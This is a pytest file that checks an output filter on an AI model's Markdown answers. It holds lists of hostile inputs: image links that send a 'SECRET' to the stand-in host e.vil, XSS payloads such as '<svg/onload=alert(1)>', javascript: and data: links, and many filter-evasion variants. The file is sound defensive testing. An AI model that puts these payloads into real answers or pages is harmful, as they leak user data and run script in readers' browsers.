"""Images and markup of an answer: judged by a reader of Markdown that is not ours."""

import re
from html.parser import HTMLParser

import nh3
import pytest
from hypothesis import example, given
from markdown_it import MarkdownIt

from corral.guard.output_chain import Asked, OutputRules
from corral.guard.policy import built_in
from corral.guard.policy_file import parse_policy_set
from corral.guard.special_tokens import ControlTokens
from tests.support.hostile_answers import MARKDOWN

READERS = (
    MarkdownIt("commonmark"),
    MarkdownIt("gfm-like", {"html": True, "linkify": False}),
)
BALANCED = OutputRules(built_in("balanced"), ControlTokens(()))
OFF = OutputRules(built_in("off"), ControlTokens(()))
STRICT = OutputRules(built_in("strict"), ControlTokens(()))
ALLOWED = OutputRules(
    parse_policy_set(
        'default = "mine"\n[policies.mine]\nbase = "strict"\n'
        'options = { link_hosts = ["corral.dev", ".cdn.dev"] }'
    ).default,
    ControlTokens(()),
)
ACTIVE = {
    "script", "style", "iframe", "object", "embed", "link", "meta", "base", "form", "input", "svg",
    "math", "video", "audio", "source", "template", "button", "textarea", "select",
}  # fmt: skip


class _Reader(HTMLParser):
    """What a page would fetch or run."""

    def __init__(self) -> None:
        super().__init__()
        self.fetched: list[str] = []
        self.run: list[str] = []
        self.linked: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        said = {name: value or "" for name, value in attrs}
        if tag == "img":
            self.fetched.append(said.get("src", ""))
        elif tag in ACTIVE:
            self.run.append(tag)
        self.run += [name for name in said if name.startswith("on") or name == "style"]
        self.linked.append(said.get("href", ""))


def shown(text: str, reader: MarkdownIt = READERS[0]) -> _Reader:
    page = _Reader()
    page.feed(reader.render(text))
    page.close()
    return page


def out(text: str, rules: OutputRules = BALANCED) -> str:
    chain = rules.chain(Asked())
    return chain.feed(text) + chain.flush()


def elsewhere(url: str) -> bool:
    return bool(re.match(r"[a-z][a-z0-9+.-]*:|[/\\]{2}", url.strip(), re.IGNORECASE))


IMAGES = [
    "![x](https://e.vil/?q=SECRET)", "![x]( https://e.vil/a )", "![x](<https://e.vil/a b>)",
    "![x](//e.vil/a)",
    "![x](ftp://e.vil/a)", "![x](HTTPS://e.vil)", "![x](https://e.vil:8080/a)",
    "![a][b]\n\n[b]: https://e.vil/q",
    "[b]: https://e.vil/q\n\n![b]", "[b]: <https://e.vil/q>\n\n![x][b]",
    "[b]:\nhttps://e.vil/q\n\n![b][]",
    "[![x](https://e.vil/a)](https://corral.dev)", "![[x]](https://e.vil/a)",
    "![x\ny](https://e.vil/a)",
    "![x](h&#116;tps://e.vil/a)", "![x](\\/\\/e.vil/a)", "![x](https://user@e.vil/a)",
    "![" + "x" * 500 + "](https://e.vil/a)", "![x](https://" + "a" * 300 + ".vil/a)",
    "> ![x](https://e.vil/a)", "- ```\n  a\n  ```\n![x](https://e.vil/a)",
    "\\`![x](https://e.vil/a)`",
    "`\n![x](https://e.vil/a)`", "<div>\n```\n\n![x](https://e.vil/a)",
    "a\n    ```\n    ![x](https://e.vil/a)",
    "- x\n  ```\nfoo ![x](https://e.vil/a)", "```\na\n```\n![x](https://e.vil/a)",
    "``` `\n![x](https://e.vil/a)",
    "<https://a`> ![x](https://e.vil/a) `", "```\r![x](https://e.vil/a)",
]  # fmt: skip


@pytest.mark.claim("OUT-04")
@pytest.mark.parametrize("text", IMAGES)
def test_no_image_of_an_unknown_host_is_fetched(text: str) -> None:
    for reader in READERS:
        assert not [url for url in shown(out(text), reader).fetched if elsewhere(url)]
    for url in shown(out(text, ALLOWED)).fetched:
        assert not elsewhere(url)


@pytest.mark.claim("OUT-04")
def test_the_attack_works_where_nothing_is_in_the_way() -> None:
    fetched = [text for text in IMAGES if any(map(elsewhere, shown(out(text, OFF)).fetched))]
    # The others are traps for a filter, or for another reader.
    assert len(fetched) >= 20
    for text in (
        "![x](https://corral.dev/a?b)",
        "![x](https://a.cdn.dev/a)",
        "![x](/a)",
        "![x](a.png)",
    ):
        assert shown(out(text, ALLOWED)).fetched, "what is allowed is shown"


MARKUP = [
    "<img src=https://e.vil>", "<script>alert(1)</script>", "<IFRAME src=//e.vil>",
    "<svg/onload=alert(1)>",
    "a <b onmouseover=alert(1)>x</b>", "<x style='background:url(//e.vil)'>",
    "<a href='javascript:x'>y</a>",
    "<!-- <img src=https://e.vil> -->", "<img\nsrc=https://e.vil>", "<input autofocus onfocus=x>",
    "<pre>\n```\n</pre>\n<img src=https://e.vil>", "<link rel=stylesheet href=//e.vil>",
    "<meta http-equiv=refresh>",
    "`<img src=https://e.vil>", "<a title='`'><img src=https://e.vil>`",
    "<" + "x" * 40 + " onclick=a>",
]  # fmt: skip


@pytest.mark.claim("OUT-05")
@pytest.mark.parametrize("text", MARKUP)
def test_no_markup_fetches_or_runs(text: str) -> None:
    for reader in READERS:
        page = shown(out(text), reader)
        assert page.run == []
        assert not [url for url in page.fetched if elsewhere(url)]


@pytest.mark.claim("OUT-05")
def test_markup_runs_where_nothing_is_in_the_way() -> None:
    pages = [shown(out(text, OFF)) for text in MARKUP]
    assert sum(bool(page.run or any(map(elsewhere, page.fetched))) for page in pages) >= 11


@pytest.mark.claim("OUT-05")
@pytest.mark.parametrize(
    "text",
    ["[x](javascript:alert(1))", "[x]( JaVaScRiPt:alert(1))", "[x](data:text/html,a)",
     "[x](vbscript:a)", "[x](javascript&colon;alert(1))", "[a]: javascript:x\n\n[a]",
     "<javascript:alert(1)>", "[x](\\javascript:a)"],
)  # fmt: skip
def test_no_link_is_a_script(text: str) -> None:
    unsafe = MarkdownIt("commonmark")
    unsafe.validateLink = lambda url: True  # type: ignore[method-assign]
    page = shown(out(text), unsafe)
    assert not [url for url in page.linked if re.match(r"\W*(javascript|data|vbscript)", url)]


@pytest.mark.claim("OUT-04")
@given(MARKDOWN)
@example(["~~~", "\n", "![", "](", "https://e.vil/?q=s", ")"])
def test_whatever_signs_come_together(pieces: list[str]) -> None:
    text = out("".join(pieces))
    for reader in READERS:
        page = shown(text, reader)
        assert not [url for url in page.fetched if elsewhere(url)]
        assert page.run == []


def test_links_stay_in_balanced_and_go_in_strict() -> None:
    text = "See [x](https://e.vil/a?b=c), https://e.vil/d. and [y](https://corral.dev/e)."
    assert out(text) == text
    assert (
        out(text, ALLOWED)
        == "See [x]([remote link]), [remote link]. and [y](https://corral.dev/e)."
    )
    assert "e.vil" not in out("[a]: //e.vil/x www.e.vil ftp://e.vil HTTPS:\\\\e.vil", STRICT)[12:]


@pytest.mark.claim("OUT-05")
@given(MARKDOWN)
@example(["</div>", "<b>", "<script>", "x"])
def test_a_page_gets_plain_elements_and_no_more(pieces: list[str]) -> None:
    rules = OutputRules(
        parse_policy_set(
            'default = "mine"\n[policies.mine]\nbase = "balanced"\noptions = { sink = "html" }'
        ).default,
        ControlTokens(()),
    )
    page = out("".join(pieces), rules)
    # Another sanitiser, with a browser's parser, has nothing left to do.
    plain = nh3.clean(page, tags=nh3.ALLOWED_TAGS | {"div", "mark", "del", "ins"}, attributes={})
    assert _tags(plain) == _tags(page)
    assert not re.search(r"<(?!/?[a-z0-9]+>)", page)


def _tags(page: str) -> list[str]:
    return sorted(set(re.findall(r"<[a-z]+[0-9]?", page)))


def test_json_stays_json_and_harmless_in_a_page() -> None:
    rules = OutputRules(
        parse_policy_set(
            'default = "mine"\n[policies.mine]\nbase = "balanced"\noptions = { sink = "json" }'
        ).default,
        ControlTokens(()),
    )
    told = out('{"a": "</script><b>&", "i": "![x](https://e.vil)"}', rules)
    assert told == (
        '{"a": "\\u003c/script\\u003e\\u003cb\\u003e\\u0026", "i": "![x] (https://e.vil)"}'
    )
